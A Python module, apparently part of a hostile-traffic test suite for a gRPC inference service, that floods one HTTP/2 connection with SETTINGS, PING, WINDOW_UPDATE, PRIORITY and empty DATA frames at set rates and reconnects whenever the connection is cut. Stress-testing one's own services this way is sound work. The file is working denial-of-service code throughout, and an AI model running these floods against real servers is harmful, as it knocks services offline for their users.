"""Floods of cheap frames on one HTTP/2 connection: settings, pings, window updates, priorities and empty data."""

from collections.abc import Callable

from hyperframe.frame import DataFrame, Frame, PingFrame, PriorityFrame, SettingsFrame, WindowUpdateFrame

from penstock.proofs.hostile.attacks.attack import AttackRun, Pace
from penstock.proofs.hostile.wire.grpc_call import call_headers
from penstock.proofs.hostile.wire.http2 import Http2Connection, frames

BATCH = 50  # frames of one write
GENERATE = "/penstock.v1.Inference/Generate"
SETTINGS_PER_S = 2_000
PINGS_PER_S = 4_000
WINDOW_UPDATES_PER_S = 10_000
PRIORITIES_PER_S = 5_000
EMPTY_FRAMES_PER_S = 5_000
MAX_WINDOW_UPDATES = 2**31 - 65_536  # beyond, the window overflows

MakeFrame = Callable[[int], Frame]  # from the number of the stream, which is open


async def _flood(run: AttackRun, make_frame: MakeFrame, per_s: int) -> None:
    """Send the same batch of frames repeatedly; open another connection if the mesh cuts it."""

    async def flood_once(run: AttackRun) -> None:
        async with run.http2() as connection:
            stream = await _open_stream(connection)
            batch, pace = frames(*([make_frame(stream)] * BATCH)), Pace(per_s)
            while not connection.closed.is_set():
                await connection.send(run.count_sent(batch, BATCH))
                await pace.wait(BATCH)

    await run.repeat(flood_once)


async def _open_stream(connection: Http2Connection) -> int:
    """Open a request without a key and leave its body unfinished."""
    return await connection.open_stream(call_headers(GENERATE))


async def settings_flood(run: AttackRun) -> None:
    frame = SettingsFrame(0, {SettingsFrame.HEADER_TABLE_SIZE: 4096})
    await _flood(run, lambda _: frame, SETTINGS_PER_S)


async def ping_flood(run: AttackRun) -> None:
    frame = PingFrame(0, b"\x00" * 8)
    await _flood(run, lambda _: frame, PINGS_PER_S)


async def window_update_flood(run: AttackRun) -> None:
    frame = WindowUpdateFrame(0, window_increment=1)
    await _flood(run, lambda _: frame, WINDOW_UPDATES_PER_S)


async def priority_flood(run: AttackRun) -> None:
    await _flood(run, lambda stream: PriorityFrame(stream, depends_on=0, stream_weight=7), PRIORITIES_PER_S)


async def empty_frames(run: AttackRun) -> None:
    await _flood(run, DataFrame, EMPTY_FRAMES_PER_S)
